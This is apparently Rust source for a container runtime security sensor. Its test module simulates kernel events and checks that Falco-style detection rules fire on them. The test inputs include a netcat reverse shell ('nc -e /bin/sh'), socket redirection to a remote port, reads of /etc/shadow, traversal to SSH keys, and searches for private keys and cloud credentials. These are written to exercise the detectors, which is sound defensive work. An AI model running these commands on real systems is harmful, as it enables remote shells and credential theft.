fn reset_fd(slot: &mut Option<Fd>) -> &mut Fd {
    let fd = slot.get_or_insert_with(Fd::default);
    fd.num = 0;
    fd.kind = FdType::File;
    fd.name.clear();
    fd.nameraw.clear();
    fd.l4proto.clear();
    fd.cip = None;
    fd.cport = 0;
    fd.sip = None;
    fd.sport = 0;
    fd.role = SocketRole::Client;
    fd.connected = false;
    fd.name_changed = false;
    fd
}

/// The file an fd refers to, from `/proc/PID/fd/N` (best-effort: the fd may be closed).
fn fd_path(slot: &mut Option<Fd>, proc_root: &Path, pid: u32, fdn: i32) -> bool {
    let Some(target) = fd_target(proc_root, pid, fdn) else {
        return false;
    };
    let fd = reset_fd(slot);
    fd.num = i64::from(fdn);
    fd.kind = FdType::File;
    fd.name = target;
    true
}

/// Where `/proc/PID/fd/N` points (best-effort).
fn fd_target(proc_root: &Path, pid: u32, fd: i32) -> Option<String> {
    if fd < 0 {
        return None;
    }
    read_link_string(
        &proc_root
            .join(pid.to_string())
            .join("fd")
            .join(fd.to_string()),
    )
}

/// Resolve a path argument: absolute paths are normalised; relative ones are joined to the
/// directory of `dirfd` (read from `/proc/PID/fd`, best-effort) or to the cwd. When the
/// base is unknown the path is returned as given.
fn resolve_path(cwd: &str, proc_root: &Path, pid: u32, dirfd: Option<u64>, path: &str) -> String {
    if path.starts_with('/') {
        return normalize_path(path);
    }
    let base = match dirfd.map(as_fd) {
        Some(fd) if fd != AT_FDCWD => match fd_target(proc_root, pid, fd) {
            Some(d) if d.starts_with('/') => Cow::Owned(d),
            _ => return path.to_string(),
        },
        _ => Cow::Borrowed(cwd),
    };
    if base.is_empty() {
        return path.to_string();
    }
    if path.is_empty() {
        // AT_EMPTY_PATH: the fd itself.
        return base.into_owned();
    }
    join_path(&base, path)
}

fn l4proto(sock_type: u16, proto: u16) -> &'static str {
    match (proto, sock_type) {
        (6, _) => "tcp",
        (17, _) => "udp",
        (1 | 58, _) => "icmp",
        (_, 1) => "tcp",
        (_, 2) => "udp",
        (_, 3) => "raw",
        _ => "",
    }
}

/// An IPv4-mapped IPv6 address as the IPv4 address it is.
fn unmap(ip: IpAddr) -> IpAddr {
    match ip {
        IpAddr::V6(v6) => v6.to_ipv4_mapped().map_or(ip, IpAddr::V4),
        v4 => v4,
    }
}

/// Fill an fd from the kernel's socket description. `role` says which end the calling
/// process is. Returns false for families the engine has no fd type for.
fn fill_sock(fd: &mut Fd, s: &SockInfo, role: SocketRole) -> bool {
    let (l, r) = (s.laddr.map(unmap), s.raddr.map(unmap));
    fd.kind = match s.family {
        abi::AF_INET => FdType::Ipv4,
        abi::AF_INET6 => {
            let v4 = |a: Option<IpAddr>| a.is_none_or(|a| a.is_ipv4());
            if v4(l) && v4(r) && (l.is_some() || r.is_some()) {
                FdType::Ipv4
            } else {
                FdType::Ipv6
            }
        }
        abi::AF_UNIX => {
            fd.kind = FdType::Unix;
            fd.role = role;
            return true;
        }
        abi::AF_NETLINK => {
            fd.kind = FdType::Netlink;
            return true;
        }
        _ => return false,
    };
    fd.l4proto.push_str(l4proto(s.sock_type, s.proto));
    fd.role = role;
    match role {
        SocketRole::Client => {
            (fd.cip, fd.cport, fd.sip, fd.sport) = (l, s.lport, r, s.rport);
        }
        SocketRole::Server => {
            (fd.sip, fd.sport, fd.cip, fd.cport) = (l, s.lport, r, s.rport);
        }
    }
    write_tuple(fd);
    true
}

/// `cip:cport->sip:sport`, as Falco names connected sockets (an unknown end is the
/// unspecified address of the other end's family).
fn write_tuple(fd: &mut Fd) {
    let v6 = fd.kind == FdType::Ipv6;
    let any = if v6 {
        IpAddr::from([0u16; 8])
    } else {
        IpAddr::from([0u8; 4])
    };
    let _ = write!(
        fd.name,
        "{}:{}->{}:{}",
        fd.cip.unwrap_or(any),
        fd.cport,
        fd.sip.unwrap_or(any),
        fd.sport
    );
}

/// A connect(2) address, from the sockaddr bytes the record carries.
#[derive(Debug, Clone, PartialEq, Eq)]
struct SockAddr {
    family: u16,
    ip: Option<IpAddr>,
    port: u16,
    path: String,
}

impl SockAddr {
    fn render(&self, out: &mut String) {
        match self.ip {
            Some(ip) => {
                let _ = write!(out, "{ip}:{}", self.port);
            }
            None => out.push_str(&self.path),
        }
    }
}

fn parse_sockaddr(b: &[u8]) -> Option<SockAddr> {
    let family = u16::from_le_bytes([*b.first()?, *b.get(1)?]);
    let port = || Some(u16::from_be_bytes([*b.get(2)?, *b.get(3)?]));
    match family {
        abi::AF_INET => {
            let o: [u8; 4] = b.get(4..8)?.try_into().ok()?;
            Some(SockAddr {
                family,
                ip: Some(unmap(IpAddr::from(o))),
                port: port()?,
                path: String::new(),
            })
        }
        abi::AF_INET6 => {
            let o: [u8; 16] = b.get(8..24)?.try_into().ok()?;
            Some(SockAddr {
                family,
                ip: Some(unmap(IpAddr::from(o))),
                port: port()?,
                path: String::new(),
            })
        }
        abi::AF_UNIX => {
            let p = b.get(2..).unwrap_or(&[]);
            // Abstract sockets start with a NUL; Falco shows them with '@'.
            let path = if p.first() == Some(&0) {
                let rest = p.get(1..).unwrap_or(&[]);
                format!("@{}", String::from_utf8_lossy(abi::cstr(rest)))
            } else {
                String::from_utf8_lossy(abi::cstr(p)).into_owned()
            };
            Some(SockAddr {
                family,
                ip: None,
                port: 0,
                path,
            })
        }
        _ => None,
    }
}

/// Without the kernel's socket description: the remote end from the sockaddr alone.
fn fill_from_sockaddr(fd: &mut Fd, sa: &SockAddr) -> bool {
    fd.role = SocketRole::Client;
    match (sa.family, sa.ip) {
        (abi::AF_UNIX, _) => {
            fd.kind = FdType::Unix;
            fd.name.push_str(&sa.path);
            true
        }
        (_, Some(ip)) => {
            fd.kind = if ip.is_ipv4() {
                FdType::Ipv4
            } else {
                FdType::Ipv6
            };
            fd.sip = Some(ip);
            fd.sport = sa.port;
            write_tuple(fd);
            true
        }
        _ => false,
    }
}

/// Names by numeric id from a `passwd`- or `group`-format file, read once (and again at
/// most once a minute when an id is missing: accounts get added).
#[derive(Debug)]
struct NameDb {
    path: PathBuf,
    names: IdMap<String>,
    loaded: Option<Instant>,
}

impl NameDb {
    fn new(path: PathBuf) -> NameDb {
        NameDb {
            path,
            names: IdMap::default(),
            loaded: None,
        }
    }

    fn name(&mut self, id: u32) -> &str {
        let stale = match self.loaded {
            None => true,
            Some(t) => !self.names.contains_key(&id) && t.elapsed() > Duration::from_secs(60),
        };
        if stale {
            self.names = parse_name_db(&std::fs::read(&self.path).unwrap_or_default());
            self.loaded = Some(Instant::now());
        }
        self.names.get(&id).map_or("", String::as_str)
    }
}

/// `name:x:id:...` lines; the first name for an id wins.
fn parse_name_db(text: &[u8]) -> IdMap<String> {
    let mut out = IdMap::default();
    for line in text.split(|&b| b == b'\n') {
        let Ok(line) = std::str::from_utf8(line) else {
            continue;
        };
        if line.starts_with('#') {
            continue;
        }
        let mut f = line.split(':');
        let (Some(name), Some(_), Some(id)) = (f.next(), f.next(), f.next()) else {
            continue;
        };
        if name.is_empty() {
            continue;
        }
        if let Ok(id) = id.trim().parse::<u32>() {
            out.entry(id).or_insert_with(|| name.to_string());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use std::collections::HashMap;
    use std::sync::OnceLock;

    use super::*;
    use crate::bpf::abi::{
        EXE_MEMFD, EXE_UPPER_LAYER, Header, KIND_EXEC, KIND_EXIT, KIND_FORK, KIND_SYSCALL,
        KIND_SYSCALL_ENTER, decode, encode,
    };
    use crate::rules::{LoadOptions, Matches, RuleMatching, Ruleset};
    use crate::sensor::pods::PodMeta;
    use crate::sensor::proctable::fixture::{self, FakeProc};

    const OFFSET: i128 = 1_700_000_000_000_000_000;
    const SEC: u64 = 1_000_000_000;
    const ID: &str = "3ad7b26ded6d8e7e1f5a2b9c0d4e6f708192a3b4c5d6e7f8091a2b3c4d5e6f70";
    const POD_UID: &str = "0b6e4c1e-1111-4a2b-9c3d-5e6f7a8b9c0d";
    const FULL_CAPS: u64 = 0x1ff_ffff_ffff;
    /// Docker's default capability set: not privileged.
    const DEFAULT_CAPS: u64 = 0xa80425fb;
    const CWD: u64 = -100i64 as u64;

    fn o(flags: &str) -> u64 {
        flags
            .split('|')
            .map(|f| match f {
                "O_RDONLY" => 0,
                "O_WRONLY" => 1,
                "O_RDWR" => 2,
                "O_CREAT" => 0o100,
                "O_TRUNC" => 0o1000,
                "O_APPEND" => 0o2000,
                "O_CLOEXEC" => 0o2000000,
                "O_DIRECTORY" => 0o200000,
                other => panic!("flag {other}"),
            })
            .fold(0, |a, b| a | b)
    }

    /// What the simulated kernel knows about a task, to write its record headers.
    #[derive(Debug, Clone)]
    struct Task {
        ppid: u32,
        comm: String,
        uid: u32,
        gid: u32,
        tty: u32,
        loginuid: u32,
        cap: u64,
        start: u64,
        cgroup: u64,
    }

    /// A fake node: a /proc and cgroup tree on disk, an enricher over them, and a kernel
    /// that writes records for its tasks.
    struct Sim {
        _dir: tempfile::TempDir,
        proc_root: PathBuf,
        enr: Enricher,
        pods: PodCache,
        tasks: HashMap<u32, Task>,
        now: u64,
        cg_container: u64,
        cg_host: u64,
    }

    #[cfg(unix)]
    fn inode(p: &Path) -> u64 {
        use std::os::unix::fs::MetadataExt;
        std::fs::metadata(p).map(|m| m.ino()).unwrap_or(0)
    }

    #[cfg(not(unix))]
    fn inode(_p: &Path) -> u64 {
        0
    }

    impl Sim {
        fn new() -> Sim {
            let dir = tempfile::tempdir().expect("tempdir");
            let root = dir.path();
            let proc_root = root.join("proc");
            let etc = root.join("etc");
            let cg = root.join("cgroup");
            std::fs::create_dir_all(proc_root.join("sys/kernel")).expect("mkdir");
            std::fs::create_dir_all(&etc).expect("mkdir");
            std::fs::write(proc_root.join("sys/kernel/cap_last_cap"), "40\n").expect("w");
            std::fs::write(
                etc.join("passwd"),
                "root:x:0:0:root:/root:/bin/bash\n\
                 daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n\
                 www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n\
                 # a comment\n\
                 garbage line\n\
                 alice:x:1000:1000::/home/alice:/bin/bash\n",
            )
            .expect("w");
            std::fs::write(
                etc.join("group"),
                "root:x:0:\nwww-data:x:33:\nalice:x:1000:\n",
            )
            .expect("w");
            let uid_ = POD_UID.replace('-', "_");
            let container_rel = format!(
                "kubepods.slice/kubepods-besteffort.slice/kubepods-besteffort-pod{uid_}.slice/cri-containerd-{ID}.scope"
            );
            std::fs::create_dir_all(cg.join(&container_rel)).expect("mkdir");
            std::fs::create_dir_all(cg.join("system.slice/containerd.service")).expect("mkdir");
            let cg_container = inode(&cg.join(&container_rel));
            let cg_host = inode(&cg.join("system.slice/containerd.service"));
            let container_file = format!("0::/{container_rel}\n");
            let host_file = "0::/system.slice/containerd.service\n";

            let procs: Vec<FakeProc<'_>> = vec![
                FakeProc {
                    pid: 1,
                    comm: "systemd",
                    cmdline: &["/sbin/init"],
                    exe: Some("/usr/lib/systemd/systemd"),
                    cgroup: "0::/init.scope\n",
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 100,
                    ppid: 1,
                    comm: "sshd",
                    cmdline: &["/usr/sbin/sshd", "-D"],
                    exe: Some("/usr/sbin/sshd"),
                    session: 100,
                    cgroup: host_file,
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 150,
                    ppid: 1,
                    comm: "containerd-shim",
                    cmdline: &["/usr/bin/containerd-shim-runc-v2", "-id", "x"],
                    exe: Some("/usr/bin/containerd-shim-runc-v2"),
                    cgroup: host_file,
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 160,
                    ppid: 150,
                    comm: "runc",
                    cmdline: &["runc", "exec", "-t"],
                    exe: Some("/usr/bin/runc"),
                    cgroup: host_file,
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 200,
                    ppid: 150,
                    comm: "nginx",
                    cmdline: &["nginx: master process nginx -g daemon off;"],
                    exe: Some("/usr/sbin/nginx"),
                    start_ticks: 1000,
                    cap_eff: DEFAULT_CAPS,
                    cgroup: &container_file,
                    nspid: Some(1),
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 300,
                    ppid: 100,
                    comm: "bash",
                    cmdline: &["-bash"],
                    exe: Some("/usr/bin/bash"),
                    cwd: Some("/home/alice"),
                    uid: 1000,
                    gid: 1000,
                    tty: 34816,
                    session: 300,
                    loginuid: Some(1000),
                    cap_eff: 0,
                    cgroup: "0::/user.slice/user-1000.slice/session-1.scope\n",
                    env: &["HOME=/home/alice", "TERM=xterm"],
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 320,
                    ppid: 100,
                    comm: "bash",
                    cmdline: &["-bash"],
                    exe: Some("/usr/bin/bash"),
                    cwd: Some("/etc"),
                    session: 320,
                    cgroup: host_file,
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 400,
                    ppid: 150,
                    comm: "php-fpm",
                    cmdline: &["php-fpm: master process"],
                    exe: Some("/usr/sbin/php-fpm"),
                    cwd: Some("/var/www/html"),
                    cap_eff: DEFAULT_CAPS,
                    cgroup: &container_file,
                    ..FakeProc::default()
                },
                FakeProc {
                    pid: 410,
                    ppid: 400,
                    comm: "php-fpm",
                    cmdline: &["php-fpm: pool www"],
                    exe: Some("/usr/sbin/php-fpm"),
                    cwd: Some("/var/www/html"),
                    uid: 33,
                    gid: 33,
                    cap_eff: 0,
                    cgroup: &container_file,
                    ..FakeProc::default()
                },
            ];
            let mut tasks = HashMap::new();
            for p in &procs {
                fixture::write(&proc_root, p);
                tasks.insert(
                    p.pid,
                    Task {
                        ppid: p.ppid,
                        comm: p.comm.to_string(),
                        uid: p.uid,
                        gid: p.gid,
                        tty: p.tty,
                        loginuid: p.loginuid.unwrap_or(u32::MAX),
                        cap: p.cap_eff,
                        start: p.start_ticks * 10_000_000,
                        cgroup: if p.cgroup == container_file {
                            cg_container
                        } else {
                            cg_host
                        },
                    },
                );
            }
            let pods = PodCache::new();
            pods.insert(
                POD_UID,
                PodMeta {
                    ns: "shop".into(),
                    name: "web-7d9f".into(),
                    labels: [("app".to_string(), "web".to_string())].into(),
                },
            );
            let mut enr = Enricher::new(
                EnricherConfig {
                    proc_root: proc_root.clone(),
                    etc_root: etc,
                    cgroups: ContainerCacheConfig {
                        v1_memory_root: root.join("no-v1"),
                        v2_root: cg,
                        ..ContainerCacheConfig::default()
                    },
                    hostname: "node-1".into(),
                    max_procs: 10_000,
                    max_parents: 8,
                    exit_grace_ns: 2 * SEC,
                    pod_wait: Duration::ZERO,
                    clock: BootClock::with_offset(OFFSET),
                },
                Some(pods.clone()),
            );
            assert_eq!(enr.seed(), procs.len());
            Sim {
                _dir: dir,
                proc_root,
                enr,
                pods,
                tasks,
                now: 1000 * SEC,
                cg_container,
                cg_host,
            }
        }

        fn task(&mut self, pid: u32) -> &mut Task {
            self.tasks
                .get_mut(&pid)
                .unwrap_or_else(|| panic!("no task {pid}"))
        }

        fn hdr(&mut self, kind: u16, pid: u32) -> Header {
            self.now += 1_000_000;
            let t = self
                .tasks
                .get(&pid)
                .unwrap_or_else(|| panic!("no task {pid}"));
            let mut comm = [0u8; 16];
            for (d, s) in comm.iter_mut().zip(t.comm.bytes().take(15)) {
                *d = s;
            }
            Header {
                kind,
                nr: 0,
                flags: 0,
                category: 0,
                ts: self.now,
                ret: 0,
                args: [0; 6],
                cgroup_id: t.cgroup,
                memcg_id: 0,
                cap_eff: t.cap,
                start_ns: t.start,
                tid: pid,
                pid,
                ppid: t.ppid,
                vpid: pid,
                uid: t.uid,
                gid: t.gid,
                tty: t.tty,
                loginuid: t.loginuid,
                mntns: 0,
                pidns: 0,
                comm,
            }
        }

        fn feed(&mut self, h: &Header, strs: [&[u8]; 4]) -> Option<Event> {
            let bytes = encode(h, strs);
            let raw = decode(&bytes).expect("decodes");
            self.enr.apply(&raw)
        }

        fn fork(&mut self, parent: u32, child: u32) {
            let mut h = self.hdr(KIND_FORK, parent);
            h.args[0] = u64::from(child);
            h.args[1] = self.now;
            let mut t = self.tasks[&parent].clone();
            t.ppid = parent;
            t.start = self.now;
            self.tasks.insert(child, t);
            assert_eq!(
                self.feed(&h, [b"", b"", b"", b""]),
                None,
                "fork makes no event"
            );
        }

        fn exec_with(
            &mut self,
            pid: u32,
            path: &str,
            dentry: &str,
            argv: &[&str],
            bits: u64,
        ) -> Event {
            let base = path.rsplit('/').next().unwrap_or(path);
            self.task(pid).comm = base.chars().take(15).collect();
            let mut h = self.hdr(KIND_EXEC, pid);
            h.args = [bits, 11 * SEC, 12 * SEC, u64::from(pid), 0, 0];
            let s0 = format!("{path}\0");
            let s1 = format!("{dentry}\0");
            let mut s2 = Vec::new();
            for a in argv {
                s2.extend_from_slice(a.as_bytes());
                s2.push(0);
            }
            self.feed(&h, [s0.as_bytes(), s1.as_bytes(), &s2, b"PATH=/usr/bin\0"])
                .expect("exec makes an event")
        }

        fn exec(&mut self, pid: u32, path: &str, argv: &[&str]) -> Event {
            let base = path.rsplit('/').next().unwrap_or(path).to_string();
            self.exec_with(pid, path, &base, argv, 0)
        }

        /// fork + exec.
        fn spawn(&mut self, parent: u32, child: u32, path: &str, argv: &[&str]) -> Event {
            self.fork(parent, child);
            self.exec(child, path, argv)
        }

        fn call(&mut self, pid: u32, nr: u16, ret: i64, args: [u64; 6], strs: [&[u8]; 4]) -> Event {
            let mut h = self.hdr(KIND_SYSCALL, pid);
            h.nr = nr;
            h.ret = ret;
            h.args = args;
            self.feed(&h, strs).expect("syscall makes an event")
        }

        fn openat(&mut self, pid: u32, path: &str, flags: &str, ret: i64) -> Event {
            let p = format!("{path}\0");
            self.call(
                pid,
                nr::OPENAT,
                ret,
                [CWD, 0, o(flags), 0o644, 0, 0],
                [p.as_bytes(), b"", b"", b""],
            )
        }
    }

    fn tcp4(l: &str, lport: u16, r: &str, rport: u16) -> [u8; abi::SOCK_INFO_LEN] {
        SockInfo {
            family: abi::AF_INET,
            sock_type: 1,
            proto: 6,
            lport,
            rport,
            laddr: Some(l.parse().expect("ip")),
            raddr: Some(r.parse().expect("ip")),
        }
        .encode()
    }

    fn sockaddr4(ip: [u8; 4], port: u16) -> Vec<u8> {
        let mut b = abi::AF_INET.to_le_bytes().to_vec();
        b.extend_from_slice(&port.to_be_bytes());
        b.extend_from_slice(&ip);
        b.extend_from_slice(&[0; 8]);
        b
    }

    // ---- the default ruleset against enriched records ------------------------------

    fn ruleset() -> &'static Ruleset {
        static RS: OnceLock<Ruleset> = OnceLock::new();
        RS.get_or_init(|| {
            let options = LoadOptions {
                rule_matching: RuleMatching::All,
                ..LoadOptions::default()
            };
            let (rs, _) =
                crate::rules::load_files(&crate::rules::default_ruleset_sources(), &options)
                    .unwrap_or_else(|e| panic!("default rules: {e}"));
            rs
        })
    }

    fn fired(ev: &Event) -> Vec<String> {
        let rs = ruleset();
        let mut m = Matches::new();
        rs.matches(ev, &mut m);
        m.ids()
            .iter()
            .filter_map(|id| rs.rule(*id).map(|r| r.name.clone()))
            .collect()
    }

    #[track_caller]
    fn fires(ev: &Event, rule: &str) {
        assert!(ruleset().find(rule).is_some(), "no rule {rule:?}");
        let got = fired(ev);
        assert!(
            got.iter().any(|r| r == rule),
            "{rule:?} did not fire; fired {got:?}\nevent: {}",
            ev.to_json()
        );
    }

    #[track_caller]
    fn quiet(ev: &Event, rule: &str) {
        let got = fired(ev);
        assert!(
            !got.iter().any(|r| r == rule),
            "{rule:?} fired on the near miss\nevent: {}",
            ev.to_json()
        );
    }

    #[test]
    fn interactive_shell_in_container() {
        const R: &str = "Interactive shell in container";
        let mut s = Sim::new();
        // runc (host) forks; the child joins the container's cgroup and runs bash on a tty.
        s.fork(160, 161);
        let cg = s.cg_container;
        s.task(161).cgroup = cg;
        s.task(161).tty = 34816;
        let ev = s.exec(161, "/bin/bash", &["bash"]);
        assert_eq!(ev.proc.name, "bash");
        assert_eq!(ev.parents[0].name, "runc");
        assert_eq!(
            ev.container.as_ref().map(|c| c.id.as_str()),
            Some(&ID[..12])
        );
        fires(&ev, R);
        // Without a terminal: a script, not a person.
        s.fork(160, 162);
        s.task(162).cgroup = cg;
        quiet(&s.exec(162, "/bin/bash", &["bash", "-c", "true"]), R);
    }

    #[test]
    fn shell_spawned_by_server_process() {
        const R: &str = "Shell spawned by server process";
        let mut s = Sim::new();
        let ev = s.spawn(200, 201, "/bin/sh", &["sh", "-c", "id"]);
        assert_eq!(ev.proc.args, ["-c", "id"]);
        fires(&ev, R);
        quiet(&s.spawn(300, 301, "/bin/sh", &["sh", "-c", "id"]), R);
    }

    #[test]
    fn netcat_reverse_shell_in_container() {
        const R: &str = "Netcat reverse shell in container";
        let mut s = Sim::new();
        fires(
            &s.spawn(
                200,
                201,
                "/usr/bin/nc",
                &["nc", "-e", "/bin/sh", "10.0.0.9", "4444"],
            ),
            R,
        );
        quiet(
            &s.spawn(200, 202, "/usr/bin/nc", &["nc", "-z", "10.0.0.9", "80"]),
            R,
        );
    }

    #[test]
    fn standard_stream_redirected_to_socket() {
        const R: &str = "Standard stream redirected to socket in container";
        let mut s = Sim::new();
        s.spawn(200, 201, "/usr/bin/python3", &["python3", "-c", "..."]);
        let sock = tcp4("10.244.1.7", 40000, "203.0.113.9", 4444);
        let ev = s.call(201, nr::DUP2, 0, [3, 0, 0, 0, 0, 0], [b"", b"", b"", &sock]);
        assert_eq!(ev.args.get("oldfd"), Some("3"));
        assert_eq!(ev.args.get("newfd"), Some("0"));
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(fd.name, "10.244.1.7:40000->203.0.113.9:4444");
        assert_eq!(fd.num, 0);
        fires(&ev, R);
        quiet(
            &s.call(201, nr::DUP2, 5, [3, 5, 0, 0, 0, 0], [b"", b"", b"", &sock]),
            R,
        );
    }

    #[test]
    fn execution_from_shared_memory() {
        const R: &str = "Execution from shared memory";
        let mut s = Sim::new();
        let ev = s.spawn(200, 201, "/dev/shm/payload", &["/dev/shm/payload"]);
        assert_eq!(ev.proc.exepath, "/dev/shm/payload");
        fires(&ev, R);
        quiet(
            &s.spawn(200, 202, "/usr/local/bin/payload", &["payload"]),
            R,
        );
    }

    #[test]
    fn fileless_execution_via_memfd() {
        const R: &str = "Fileless execution via memfd";
        let mut s = Sim::new();
        s.fork(300, 301);
        let ev = s.exec_with(301, "/dev/fd/3", "memfd:payload", &["x"], EXE_MEMFD);
        assert!(ev.proc.exe_from_memfd);
        assert_eq!(ev.proc.exepath, "memfd:payload");
        fires(&ev, R);
        // runc re-executing itself from its cloned binary.
        s.fork(160, 161);
        s.task(161).comm = "runc".into();
        let ev = s.exec_with(
            161,
            "/proc/self/fd/5",
            "memfd:runc_cloned:/proc/self/exe",
            &["runc", "init"],
            EXE_MEMFD,
        );
        quiet(&ev, R);
    }

    #[test]
    fn new_executable_run_in_container() {
        const R: &str = "New executable run in container";
        let mut s = Sim::new();
        s.fork(200, 201);
        let ev = s.exec_with(201, "/tmp/miner", "miner", &["/tmp/miner"], EXE_UPPER_LAYER);
        assert!(ev.proc.exe_upper_layer);
        assert_eq!(ev.proc.exe_ino_ctime, 11 * SEC);
        fires(&ev, R);
        s.fork(200, 202);
        quiet(&s.exec_with(202, "/usr/bin/env", "env", &["env"], 0), R);
        // The same binary on the host is not "in a container".
        s.fork(300, 301);
        quiet(
            &s.exec_with(301, "/tmp/miner", "miner", &["/tmp/miner"], EXE_UPPER_LAYER),
            R,
        );
    }

    #[test]
    fn service_account_ran_interactive_command() {
        const R: &str = "Service account ran interactive command";
        let mut s = Sim::new();
        s.fork(100, 500);
        s.task(500).uid = 33;
        s.exec(500, "/bin/bash", &["bash"]);
        let ev = s.spawn(500, 501, "/usr/bin/id", &["id"]);
        assert_eq!(ev.user.name, "www-data");
        assert_eq!(ev.parents[1].name, "sshd");
        fires(&ev, R);
        s.fork(100, 510);
        s.task(510).uid = 1000;
        s.exec(510, "/bin/bash", &["bash"]);
        let ev = s.spawn(510, 511, "/usr/bin/id", &["id"]);
        assert_eq!(ev.user.name, "alice");
        quiet(&ev, R);
    }

    #[test]
    fn credential_file_read_by_untrusted_process() {
        const R: &str = "Credential file read by untrusted process";
        let mut s = Sim::new();
        s.spawn(300, 301, "/usr/bin/cat", &["cat", "/etc/shadow"]);
        let ev = s.openat(301, "/etc/shadow", "O_RDONLY", 3);
        assert_eq!(ev.args.get("flags"), Some("O_RDONLY"));
        assert_eq!(ev.args.get("dirfd"), Some("AT_FDCWD"));
        fires(&ev, R);
        quiet(&s.openat(301, "/etc/hostname", "O_RDONLY", 3), R);
        s.spawn(300, 302, "/usr/bin/passwd", &["passwd"]);
        quiet(&s.openat(302, "/etc/shadow", "O_RDONLY", 3), R);
    }

    #[test]
    fn credential_file_read_by_long_running_server() {
        const R: &str = "Credential file read by long-running server";
        let mut s = Sim::new();
        // nginx started at boot + 10 s; it is now boot + 1000 s.
        let ev = s.openat(200, "/etc/shadow", "O_RDONLY|O_CLOEXEC", 7);
        assert_eq!(ev.args.get("flags"), Some("O_RDONLY|O_CLOEXEC"));
        fires(&ev, R);
        // A freshly started nginx reading it is startup behaviour.
        s.spawn(200, 201, "/usr/sbin/nginx", &["nginx"]);
        quiet(&s.openat(201, "/etc/shadow", "O_RDONLY", 7), R);
    }

    #[test]
    fn path_traversal_to_sensitive_file() {
        const R: &str = "Path traversal to sensitive file";
        let mut s = Sim::new();
        // php-fpm worker in /var/www/html opens a relative traversal path.
        let ev = s.openat(410, "../../../etc/passwd", "O_RDONLY", 5);
        let fd = ev.fd.as_ref().expect("fd");
        assert_eq!(fd.name, "/etc/passwd");
        assert_eq!(fd.nameraw, "../../../etc/passwd");
        fires(&ev, R);
        // Failed opens count too.
        let failed = s.openat(
            410,
            "/var/www/html/../../../root/.ssh/id_rsa",
            "O_RDONLY",
            -2,
        );
        fires(&failed, R);
        // ... with no descriptor, as Falco's open_file_failed macro expects (fd.num=-1)
        assert_eq!(failed.fd.as_ref().map(|f| f.num), Some(-1));
        assert_eq!(failed.res, -2);
        quiet(&s.openat(410, "../../../tmp/x", "O_RDONLY", 5), R);
    }

    #[test]
    fn symlink_and_hardlink_to_sensitive_files() {
        let mut s = Sim::new();
        s.spawn(
            300,
            301,
            "/usr/bin/ln",
            &["ln", "-s", "/etc", "/tmp/etc_link"],
        );
        let ev = s.call(
            301,
            nr::SYMLINKAT,
            0,
            [0, CWD, 0, 0, 0, 0],
            [b"/etc\0", b"/tmp/etc_link\0", b"", b""],
        );
        assert_eq!(ev.args.get("target"), Some("/etc"));
        assert_eq!(ev.args.get("linkpath"), Some("/tmp/etc_link"));
        fires(&ev, "Symlink to sensitive file");
        let ev = s.call(301, nr::SYMLINK, 0, [0; 6], [b"/tmp/x\0", b"y\0", b"", b""]);
        assert_eq!(
            ev.args.get("linkpath"),
            Some("/home/alice/y"),
            "relative to the cwd"
        );
        quiet(&ev, "Symlink to sensitive file");

        // `cd /etc && ln shadow /tmp/s`: the relative old path resolves against the cwd.
        s.spawn(320, 321, "/usr/bin/ln", &["ln", "shadow", "/tmp/s"]);
        let ev = s.call(
            321,
            nr::LINKAT,
            0,
            [CWD, 0, CWD, 0, 0, 0],
            [b"shadow\0", b"/tmp/s\0", b"", b""],
        );
        assert_eq!(ev.args.get("oldpath"), Some("/etc/shadow"));
        fires(&ev, "Hardlink to sensitive file");
        let ev = s.call(
            321,
            nr::LINK,
            0,
            [0; 6],
            [b"hosts\0", b"/tmp/h\0", b"", b""],
        );
        quiet(&ev, "Hardlink to sensitive file");
    }

    #[test]
    fn searches_for_private_keys_and_cloud_credentials() {
        let mut s = Sim::new();
        fires(
            &s.spawn(
                300,
                301,
                "/usr/bin/grep",
                &["grep", "-r", "BEGIN RSA PRIVATE KEY", "/home"],
            ),
            "Search for private keys",
        );
        quiet(
            &s.spawn(300, 302, "/usr/bin/grep", &["grep", "-r", "TODO", "."]),
            "Search for private keys",
        );
        fires(
            &s.spawn(
                300,
                303,
                "/usr/bin/find",
                &["find", "/", "-name", "credentials.db"],
            ),
            "Search for cloud credentials",
        );
        quiet(
            &s.spawn(300, 304, "/usr/bin/find", &["find", "/", "-name", "*.log"]),
            "Search for cloud credentials",
        );
    }

    #[test]
    fn packet_socket_created_in_container() {
        const R: &str = "Packet socket created in container";
        let mut s = Sim::new();
        s.spawn(200, 201, "/usr/sbin/tcpdump", &["tcpdump"]);
        let ev = s.call(
            201,
            nr::SOCKET,
            4,
            [17, 3, 768, 0, 0, 0],
            [b"", b"", b"", b""],
        );
        assert_eq!(ev.args.get("domain"), Some("AF_PACKET"));
        assert_eq!(ev.args.get("type"), Some("SOCK_RAW"));
        assert_eq!(ev.args.get("proto"), Some("768"));
        assert_eq!(ev.fd, None);
        fires(&ev, R);
        let ev = s.call(
            201,
            nr::SOCKET,
            4,
            [2, 1 | 0o2000000, 6, 0, 0, 0],
            [b"", b"", b"", b""],
        );
        assert_eq!(ev.args.get("type"), Some("SOCK_STREAM|SOCK_CLOEXEC"));
        assert_eq!(
            ev.fd.as_ref().map(|f| (f.kind, f.l4proto.as_str())),
            Some((FdType::Ipv4, "tcp"))
        );
        quiet(&ev, R);
    }

    #[test]
    fn writes_below_etc_and_binary_directories() {
        let mut s = Sim::new();
        s.spawn(300, 301, "/usr/bin/python3", &["python3", "x.py"]);
        let ev = s.openat(301, "/etc/foo.conf", "O_WRONLY|O_CREAT", 3);
        assert_eq!(ev.args.get("flags"), Some("O_WRONLY|O_CREAT"));
        assert_eq!(ev.args.get("mode"), Some("0644"));
        fires(&ev, "Write below /etc");
        quiet(
            &s.openat(301, "/etc/foo.conf", "O_RDONLY", 3),
            "Write below /etc",
        );

        s.spawn(
            300,
            302,
            "/usr/bin/curl",
            &["curl", "-o", "/usr/bin/kubectl"],
        );
        fires(
            &s.openat(302, "/usr/bin/kubectl", "O_WRONLY|O_CREAT|O_TRUNC", 3),
